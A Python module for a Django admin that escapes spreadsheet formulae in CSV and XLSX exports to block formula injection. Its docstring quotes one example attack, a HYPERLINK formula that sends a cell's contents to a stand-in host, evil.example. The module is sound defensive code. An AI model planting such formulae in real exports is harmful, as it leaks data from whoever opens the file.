"""Spreadsheet exports that carry no formulae.

A text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is what a
spreadsheet runs as a formula when it opens the file: a title such as
``=HYPERLINK("http://evil.example/?x="&A2,"Click")`` would send the sheet's other cells away.
So every export goes out through these formats:

- CSV puts a single quote before such a text (OWASP's advice), and the import takes it
  away again. A text that already starts with quotes followed by such a character gets
  one quote more, so that whatever was exported comes back exactly as it was. A plain
  number (``-3``) is never a formula and is left as it is.
- XLSX writes such a text as a text cell, never a formula, marked as Excel marks a text
  typed with a leading quote (so that editing the cell keeps it text); its value is the
  text itself, which the import reads back unchanged.

django-import-export's own ``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`` only removes a
leading ``=`` (changing the text, and leaving ``+``, ``-`` and ``@``), and turns every cell
into text, numbers and dates included: it is not used.
"""

import logging
import re

import tablib
from django.core.exceptions import PermissionDenied
from django.utils.translation import gettext_lazy as _
from import_export.formats import base_formats
from openpyxl.utils.exceptions import IllegalCharacterError
from tablib.formats._xlsx import XLSXFormat

logger = logging.getLogger(__name__)

# What a spreadsheet reads as the start of a formula (with the full-width forms that some
# versions of Excel accept too), after any number of quotes.
_FORMULA_START = re.compile(r"'*[=+\-@\t\r＝＋－＠]")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def escape_formula(value):
    """A CSV cell that no spreadsheet runs: a quote before a text that starts a formula."""
    if (
        isinstance(value, str)
        and _FORMULA_START.match(value)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def unescape_formula(value):
    """The text that ``escape_formula`` quoted, as it was."""
    if isinstance(value, str) and value.startswith("'") and _FORMULA_START.match(value):
        return value[1:]
    return value


def _map_cells(dataset: tablib.Dataset, function) -> tablib.Dataset:
    return tablib.Dataset(
        *[[function(cell) for cell in row] for row in dataset],
        headers=dataset.headers,
        title=dataset.title,
    )


class SafeCSV(base_formats.CSV):
    """CSV whose texts that a spreadsheet would run as formulae are quoted on export, and
    unquoted on import."""

    def export_data(self, dataset, **kwargs):
        return super().export_data(_map_cells(dataset, escape_formula), **kwargs)

    def create_dataset(self, in_stream, **kwargs):
        return _map_cells(super().create_dataset(in_stream, **kwargs), unescape_formula)


class _TextCellsXLSX(XLSXFormat):
    """tablib's XLSX writer, with every text written as a text cell: openpyxl makes a
    formula of a text starting with "=", and an error of one such as "#N/A"."""

    @classmethod
    def dset_sheet(cls, dataset, ws, freeze_panes=True, escape=False):
        super().dset_sheet(dataset, ws, freeze_panes=freeze_panes, escape=False)
        for row in ws.iter_rows():
            for cell in row:
                if not isinstance(cell.value, str):
                    continue
                cell.data_type = "s"
                if _FORMULA_START.match(cell.value):
                    cell.quotePrefix = True


class SafeXLSX(base_formats.XLSX):
    """XLSX whose texts are all text cells, never formulae."""

    def export_data(self, dataset, **kwargs):
        try:
            return _TextCellsXLSX.export_set(dataset, **kwargs)
        except IllegalCharacterError as error:
            # As django-import-export does: the message does not repeat the cell's text.
            logger.exception(error)
            raise ValueError(
                _(
                    "This export cannot be written as an Excel workbook: a text holds a "
                    "character that Excel does not accept. Export it as CSV instead."
                )
            ) from None


class SafeExportMixin:
    """For a ModelAdmin of django-import-export: exports in the formats above only."""

    export_formats = [SafeCSV, SafeXLSX]

    def get_export_data(self, file_format, request, queryset, **kwargs):
        # As django-import-export's, which keeps numbers, dates and yes/no native only for
        # its own binary formats, recognised by their exact class: ours are subclasses.
        if not self.has_export_permission(request):
            raise PermissionDenied
        native = isinstance(file_format, tuple(base_formats.BINARY_FORMATS))
        data = self.get_data_for_export(request, queryset, force_native_type=native, **kwargs)
        exported = file_format.export_data(data)
        encoding = kwargs.get("encoding")
        if not file_format.is_binary() and encoding:
            exported = exported.encode(encoding)
        return exported
